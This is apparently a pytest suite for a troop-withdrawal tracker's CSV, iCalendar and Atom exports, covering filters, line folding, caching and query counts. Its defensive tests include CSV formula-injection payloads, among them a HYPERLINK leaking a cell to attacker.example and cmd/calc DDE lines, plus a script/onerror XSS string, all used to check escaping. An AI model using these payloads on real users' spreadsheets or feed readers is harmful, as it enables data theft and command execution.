"""Exports: CSV of the API lists, the iCalendar feed of deadlines and milestones, the Atom
feed of changes. All honour ?party=&host=."""

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET

import pytest

from tracker.models import (
    Conflict,
    DeadlineRevision,
    Milestone,
    Party,
    Precision,
    Source,
    Withdrawal,
)

ATOM = "{http://www.w3.org/2005/Atom}"
# The fixtures' dates (2024-2025) lie outside the calendar's default window: ask for them.
ICS = "/feeds/deadlines.ics?from=2024-01-01&to=2025-12-31"


@pytest.fixture
def chad(niger_withdrawal):
    france = Party.objects.create(code="FR", name="France")
    chad = Party.objects.create(code="TD", name="Chad")
    withdrawal = Withdrawal.objects.create(
        party=france,
        host=chad,
        deadline=dt.date(2025, 1, 31),
        deadline_precision=Precision.MONTH,
        summary="France leaves Chad; bases at N'Djamena, Faya and Abéché",
    )
    Milestone.objects.create(
        withdrawal=withdrawal,
        kind="base_handover",
        title="Faya-Largeau base handed over",
        date=dt.date(2024, 12, 26),
        status="done",
    )
    return withdrawal


def body_of(response) -> str:
    # CSV exports stream; the rest are plain responses.
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def unfold(body: str) -> list[str]:
    assert "\n" not in body.replace("\r\n", ""), "lines end with CRLF"
    return body.replace("\r\n ", "").split("\r\n")


def events(body: str) -> list[dict]:
    found, current = [], None
    for line in unfold(body):
        if line == "BEGIN:VEVENT":
            current = {}
        elif line == "END:VEVENT":
            found.append(current)
            current = None
        elif current is not None:
            name, _, value = line.partition(":")
            current[name] = value
    return found


@pytest.mark.django_db
def test_it_exports_withdrawals_as_csv_with_the_same_filters(client, chad):
    response = client.get("/api/withdrawals/?format=csv&party=FR")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="withdrawals.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(body_of(response))))
    assert len(rows) == 1
    assert rows[0]["party.code"] == "FR" and rows[0]["host.code"] == "TD"
    assert rows[0]["deadline"] == "2025-01-31" and rows[0]["deadline_precision"] == "month"
    assert rows[0]["status"]
    everything = body_of(client.get("/api/withdrawals/?format=csv"))
    assert len(list(csv.DictReader(io.StringIO(everything)))) == 2


@pytest.mark.django_db
def test_it_exports_milestones_as_csv(client, chad):
    response = client.get("/api/milestones/?format=csv&host=NE")
    rows = list(csv.DictReader(io.StringIO(body_of(response))))
    assert [r["title"] for r in rows] == [
        "Agreement to withdraw announced",
        "Air Base 101 handed over",
    ]


@pytest.mark.django_db
def test_it_answers_csv_requests_with_bad_filters_in_json(client, chad):
    response = client.get("/api/withdrawals/?format=csv&deadline_after=2024-02-30")
    assert response.status_code == 400
    assert response.json()["error"]["fields"]["deadline_after"]


@pytest.mark.django_db
def test_it_publishes_deadlines_and_milestones_as_icalendar(client, chad, niger_withdrawal):
    response = client.get(ICS)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    body = response.content.decode()
    lines = unfold(body)
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-2] == "END:VCALENDAR" and lines[-1] == ""
    assert "VERSION:2.0" in lines and any(line.startswith("PRODID:") for line in lines)
    # RFC 5545: no line longer than 75 octets.
    assert all(len(line.encode()) <= 75 for line in body.split("\r\n"))
    by_uid = {event["UID"]: event for event in events(body)}
    niger = by_uid[f"withdrawal-{niger_withdrawal.pk}-deadline@troop-withdrawal-tracker"]
    assert niger["DTSTART;VALUE=DATE"] == "20240915"
    assert niger["DTEND;VALUE=DATE"] == "20240916"
    assert niger["SUMMARY"] == "Deadline: United States leaves Niger"
    # A month-precision deadline is one all-day event on the month's last day, never a
    # month-long block; the precision is in the words.
    france = by_uid[f"withdrawal-{chad.pk}-deadline@troop-withdrawal-tracker"]
    assert france["DTSTART;VALUE=DATE"] == "20250131"
    assert france["DTEND;VALUE=DATE"] == "20250201"
    assert france["SUMMARY"] == "Deadline (by end of January 2025): France leaves Chad"
    assert "by end of January 2025" in france["DESCRIPTION"]
    assert "N'Djamena\\, Faya and Abéché" in france["DESCRIPTION"]
    milestone_uids = [uid for uid in by_uid if uid.startswith("milestone-")]
    assert len(milestone_uids) == 3
    assert all("DTSTAMP" in event and "SEQUENCE" in event for event in by_uid.values())


@pytest.mark.django_db
def test_it_keeps_calendar_uids_stable_and_raises_the_sequence_on_change(client, niger_withdrawal):
    before = {e["UID"]: e for e in events(client.get(ICS).content.decode())}
    niger_withdrawal.deadline = dt.date(2024, 9, 30)
    niger_withdrawal.save()
    after = {e["UID"]: e for e in events(client.get(ICS).content.decode())}
    assert set(before) == set(after)
    uid = f"withdrawal-{niger_withdrawal.pk}-deadline@troop-withdrawal-tracker"
    assert after[uid]["DTSTART;VALUE=DATE"] == "20240930"
    assert int(after[uid]["SEQUENCE"]) >= int(before[uid]["SEQUENCE"])


@pytest.mark.django_db
def test_it_filters_the_calendar_by_party_and_host(client, chad, niger_withdrawal):
    body = client.get(ICS + "&party=US&host=NE").content.decode()
    uids = [e["UID"] for e in events(body)]
    assert len(uids) == 3 and not any(str(chad.pk) + "-deadline" in uid for uid in uids)
    assert events(client.get(ICS + "&party=GB").content.decode()) == []
    for bad_value in ("U%00S", "Atlantis"):
        bad = client.get(ICS + "&party=" + bad_value)
        assert bad.status_code == 400 and bad.json()["error"]["fields"]["party"]


@pytest.mark.django_db
def test_it_publishes_changes_as_atom(client, chad, niger_withdrawal):
    source = Source.objects.create(text="t", content_hash="h", origin="pasted")
    DeadlineRevision.objects.create(
        withdrawal=niger_withdrawal, deadline=dt.date(2024, 9, 30), phrase="by the end of September"
    )
    Conflict.objects.create(
        withdrawal=niger_withdrawal,
        field="personnel",
        current_value="1000",
        proposed_value="1100",
        reason="disagreement",
        source=source,
    )
    response = client.get("/feeds/changes.atom")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    feed = ET.fromstring(response.content)
    entries = feed.findall(f"{ATOM}entry")
    titles = [e.findtext(f"{ATOM}title") for e in entries]
    ids = [e.findtext(f"{ATOM}id") for e in entries]
    assert len(set(ids)) == len(ids)
    assert "New withdrawal: France → Chad by January 2025" in titles
    assert "Deadline: United States → Niger by 30 September 2024" in titles
    assert "Milestone done: France → Chad: Faya-Largeau base handed over" in titles
    assert "Conflict on United States → Niger: personnel 1000 vs 1100" in titles
    assert f"tag:troop-withdrawal-tracker,2024:conflict/{Conflict.objects.get().pk}" in ids


@pytest.mark.django_db
def test_it_filters_the_atom_feed_by_party(client, chad, niger_withdrawal):
    feed = ET.fromstring(client.get("/feeds/changes.atom?party=FR").content)
    titles = [e.findtext(f"{ATOM}title") for e in feed.findall(f"{ATOM}entry")]
    assert titles and all("France" in title for title in titles)
    assert client.get("/feeds/changes.atom?host=%00").status_code == 400


@pytest.mark.django_db
def test_it_builds_the_feeds_in_a_fixed_number_of_queries(
    client, chad, niger_withdrawal, django_assert_num_queries
):
    # 1-2: the window's event count and latest change (ETag); 3: withdrawals with a deadline
    # in the window, joined with party and host; 4: milestones with a date in it, joined with
    # their withdrawal's party and host.
    with django_assert_num_queries(4):
        client.get(ICS)
    # Polled again with nothing changed, the calendar written the first time is served from
    # the cache under its ETag: only the version is read.
    with django_assert_num_queries(2):
        assert "BEGIN:VEVENT" in client.get(ICS).content.decode()
    # One query per kind of change: withdrawals and done milestones (their newest ids, then
    # those rows), revisions, conflicts.
    with django_assert_num_queries(6):
        client.get("/feeds/changes.atom")


# Text that a spreadsheet would run as a formula when the CSV is opened (issue 14, item 12).
HOSTILE_CELLS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
]


@pytest.mark.django_db
@pytest.mark.parametrize("text", HOSTILE_CELLS)
def test_it_defuses_csv_formula_injection_from_article_text(client, niger_withdrawal, text):
    niger_withdrawal.summary = text
    niger_withdrawal.save()
    milestone = niger_withdrawal.milestones.first()
    milestone.title = text
    milestone.save()
    for url, column in [
        ("/api/withdrawals/?format=csv", "summary"),
        ("/api/milestones/?format=csv", "title"),
    ]:
        rows = list(csv.DictReader(io.StringIO(body_of(client.get(url)))))
        cells = [row[column] for row in rows]
        # Shown as the text it is (a leading apostrophe), never evaluated.
        assert "'" + text in cells, url
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (url, value)
                assert not value.startswith("-") or value.lstrip("-").isdigit(), (url, value)


@pytest.mark.django_db
def test_it_keeps_negative_numbers_as_numbers_in_csv(client, niger_withdrawal):
    # The Niger deadline (2024) is past: its countdown is a negative number of seconds.
    rows = list(csv.DictReader(io.StringIO(body_of(client.get("/api/withdrawals/?format=csv")))))
    assert int(rows[0]["countdown.seconds"]) < 0


@pytest.mark.django_db
def test_it_streams_every_row_of_a_csv_export_past_one_chunk(client, niger_withdrawal):
    france = Party.objects.create(code="FR", name="France")
    Withdrawal.objects.bulk_create(
        [
            Withdrawal(party=france, host=niger_withdrawal.host, summary=f"row {n}")
            for n in range(2500)
        ]
    )
    response = client.get("/api/withdrawals/?format=csv&party=FR")
    assert response.streaming
    rows = list(csv.DictReader(io.StringIO(body_of(response))))
    assert len(rows) == 2500 and len({row["id"] for row in rows}) == 2500


@pytest.mark.django_db
def test_it_writes_a_csv_header_when_nothing_matches(client, niger_withdrawal):
    body = body_of(client.get("/api/withdrawals/?format=csv&party=GB"))
    assert body.startswith("id,") and body.count("\r\n") == 1


@pytest.mark.django_db
def test_it_escapes_injected_tags_in_atom_summaries_so_readers_show_text(client, niger_withdrawal):
    # Issue 14, item 11: the summary is declared type="html"; raw tags would be rendered.
    niger_withdrawal.summary = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    niger_withdrawal.save()
    feed = ET.fromstring(client.get("/feeds/changes.atom").content)
    summaries = {
        e.findtext(f"{ATOM}title"): e.find(f"{ATOM}summary") for e in feed.findall(f"{ATOM}entry")
    }
    summary = summaries["New withdrawal: United States → Niger by 15 September 2024"]
    assert summary.get("type") == "html"
    # What a reader decodes as HTML is escaped text: it shows the tags, it runs nothing.
    assert summary.text == (
        "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=&quot;alert(2)&quot;&gt;"
    )
    assert "<script" not in summary.text and "<img" not in summary.text


@pytest.mark.django_db
def test_it_dates_atom_entries_by_their_sources_publication(client, niger_withdrawal):
    source = Source.objects.create(
        text="t", content_hash="h", origin="pasted", published_on=dt.date(2024, 5, 20)
    )
    Conflict.objects.create(
        withdrawal=niger_withdrawal,
        field="personnel",
        current_value="1000",
        proposed_value="1100",
        reason="disagreement",
        source=source,
    )
    feed = ET.fromstring(client.get("/feeds/changes.atom").content)
    entry = next(e for e in feed.findall(f"{ATOM}entry") if "conflict/" in e.findtext(f"{ATOM}id"))
    assert entry.findtext(f"{ATOM}published").startswith("2024-05-20T00:00:00")
    # Updated: when the tracker recorded it (today), not the article's date.
    assert not entry.findtext(f"{ATOM}updated").startswith("2024-05-20")


def days_from_today(offset: int) -> dt.date:
    return dt.datetime.now(dt.UTC).date() + dt.timedelta(days=offset)


@pytest.mark.django_db
def test_it_keeps_the_calendar_to_a_window_from_ninety_days_ago(client, niger_withdrawal):
    host = niger_withdrawal.host
    parties = [Party.objects.create(code=code, name=code) for code in ("FR", "GB", "DE")]
    old, recent, coming = (
        Withdrawal.objects.create(party=party, host=host, deadline=days_from_today(offset))
        for party, offset in zip(parties, (-120, -60, 200), strict=True)
    )
    uids = {e["UID"] for e in events(client.get("/feeds/deadlines.ics").content.decode())}
    deadline_uid = "withdrawal-{}-deadline@troop-withdrawal-tracker".format
    assert deadline_uid(recent.pk) in uids and deadline_uid(coming.pk) in uids
    assert deadline_uid(old.pk) not in uids and deadline_uid(niger_withdrawal.pk) not in uids
    # ?from=&to= move the window.
    start, end = days_from_today(-130).isoformat(), days_from_today(-100).isoformat()
    body = client.get(f"/feeds/deadlines.ics?from={start}&to={end}").content.decode()
    assert {e["UID"] for e in events(body)} == {deadline_uid(old.pk)}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query", ["from=2024-02-30", "to=soon", "from=2025-01-01&to=2024-01-01", "from=1900-01-01"]
)
def test_it_refuses_a_calendar_window_it_cannot_read(client, niger_withdrawal, query):
    response = client.get(f"/feeds/deadlines.ics?{query}")
    assert response.status_code == 400
    assert set(response.json()["error"]["fields"]) <= {"from", "to"}


@pytest.mark.django_db
def test_it_answers_304_to_a_calendar_client_whose_copy_is_current(client, niger_withdrawal):
    first = client.get(ICS)
    assert first.status_code == 200 and first["ETag"] and first["Last-Modified"]
    again = client.get(ICS, HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304 and again.content == b""
    since = client.get(ICS, HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])
    assert since.status_code == 304
    # A change to an event in the window gives a new copy.
    milestone = niger_withdrawal.milestones.first()
    milestone.title = "Agreement signed"
    milestone.save()
    changed = client.get(ICS, HTTP_IF_NONE_MATCH=first["ETag"])
    assert changed.status_code == 200 and "Agreement signed" in changed.content.decode()
    assert changed["ETag"] != first["ETag"]
